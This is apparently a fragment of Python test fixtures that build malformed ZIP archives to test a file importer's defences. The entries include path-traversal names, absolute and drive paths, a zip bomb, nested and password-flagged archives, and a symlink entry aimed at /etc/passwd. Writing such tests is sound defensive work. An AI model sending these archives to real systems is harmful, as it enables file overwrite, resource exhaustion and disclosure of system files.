add("zip-cut", "t.zip", lambda: make_zip([("a.csv", make_csv({}))])[:60])
add("zip-outside", "t.zip", lambda: make_zip([("../../a.csv", make_csv({}))]))
add("zip-absolute", "t.zip", lambda: make_zip([("/etc/a.csv", make_csv({}))]))
add("zip-drive", "t.zip", lambda: make_zip([("C:" + "\\a.csv", make_csv({}))]))
add("zip-backslash", "t.zip", lambda: make_zip([("..\\..\\a.csv", make_csv({}))]))
add("zip-many", "t.zip", lambda: make_zip((f"{i}.csv", b"") for i in range(6_000)))
add(
    "zip-bomb",
    "t.zip",
    lambda: make_zip((f"{i}.csv", b"a," * 25_000_000) for i in range(8)),
)
add("zip-in-zip", "t.zip", lambda: make_zip([("a.zip", make_zip([("b.csv", b"a")]))]))
add("zip-password", "t.zip", lambda: make_zip([("a.csv", make_csv({}))], flags=1))


def make_link_archive() -> bytes:
    """Make an archive with a symbolic link in it."""
    link = zipfile.ZipInfo("link.csv")
    link.external_attr = 0o120777 << 16
    return make_zip([(link, b"/etc/passwd")])


add("zip-link", "t.zip", make_link_archive)
